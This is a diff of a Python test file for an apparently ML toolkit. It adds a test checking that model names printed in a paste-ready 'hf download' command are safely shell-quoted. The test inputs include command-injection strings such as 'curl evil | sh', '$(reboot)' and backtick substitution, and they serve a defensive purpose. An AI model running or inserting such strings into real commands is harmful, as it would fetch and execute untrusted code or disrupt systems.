@@ -7,6 +7,7 @@ import json
 import os
 import pickle
 import re
+import shlex
 import shutil
 import sys
 from collections.abc import Iterator
@@ -610,3 +611,13 @@ def test_adapters_are_loaded_from_where_they_are_said_to_be(tmp_path):
     with pytest.raises(InputError):
         load_trained("toy", tmp_path)
     assert COMPARISON.accepts(backend_factory("digits"))
+
+
+@pytest.mark.parametrize("name", ["nobody/model; curl evil | sh", "$(reboot)/x", "a'b/`c`", "plain/name"])
+def test_a_line_to_paste_holds_the_name_as_one_word(name):
+    """The base model that an adapter or a configuration names is printed in a command."""
+    from hnkit.scaled.internal.hub import missing_model
+
+    line = str(missing_model("backend.model_id", name, OSError("no network")))
+    command = line.partition(": run ")[2].partition(" where there is a network")[0]
+    assert shlex.split(command) == ["hf", "download", name]
